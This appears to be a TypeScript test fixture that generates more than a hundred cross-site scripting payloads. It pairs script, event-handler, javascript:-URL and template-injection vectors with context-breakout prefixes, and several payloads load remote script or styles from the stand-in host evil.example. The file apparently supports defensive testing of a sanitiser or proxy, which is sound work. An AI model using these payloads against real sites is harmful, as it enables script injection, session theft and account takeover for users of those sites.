import { tamperMark } from '@portal/testbed/proxy/faults';

const run = `${tamperMark}=1`;

/** Ways to make text run, each in its shortest form; whatever becomes an element carries `data-xss`. */
const vectors: readonly string[] = [
  `<script data-xss>${run}</script>`,
  '<script data-xss src=//evil.example/x.js></script>',
  `<img data-xss src=x onerror=${run}>`,
  '<img data-xss src=x onerror=alert(1)>',
  `<svg data-xss onload=${run}>`,
  `<svg data-xss><script>${run}</script></svg>`,
  `<svg data-xss><animate onbegin=${run} attributeName=x>`,
  `<math data-xss><mtext><img src=x onerror=${run}>`,
  `<body data-xss onload=${run}>`,
  `<details data-xss open ontoggle=${run}>`,
  `<input data-xss autofocus onfocus=${run}>`,
  `<video data-xss><source onerror=${run}>`,
  `<audio data-xss src=x onerror=${run}>`,
  '<iframe data-xss src=javascript:alert(1)>',
  `<iframe data-xss srcdoc="<script>parent.${run}</script>">`,
  '<object data-xss data=javascript:alert(1)>',
  '<embed data-xss src=javascript:alert(1)>',
  '<a data-xss href=javascript:alert(1)>x</a>',
  '<form data-xss action=javascript:alert(1)><button>x',
  '<base data-xss href=//evil.example/>',
  '<meta data-xss http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link data-xss rel=stylesheet href=//evil.example/x.css>',
  '<style data-xss>@import "//evil.example/x.css"</style>',
  `<noscript data-xss><p title="</noscript><img src=x onerror=${run}>">`,
  `<marquee data-xss onstart=${run}>`,
  `<template data-xss><script>${run}</script></template>`,
  `javascript:${run}`,
  '$t(common:shell.logOut) {{constructor.constructor("alert(1)")()}}',
];

/** What stands before a text where pages are glued together carelessly: nothing, an attribute, a script, a comment. */
const breakouts = ['', '">', "'-alert(1)-'", '</script>', '--><!--'];

/** More than a hundred texts, none longer than an address may be. */
export const xssPayloads: readonly string[] = vectors
  .flatMap((vector) => breakouts.map((breakout) => breakout + vector))
  .filter((payload) => payload.length <= 128);
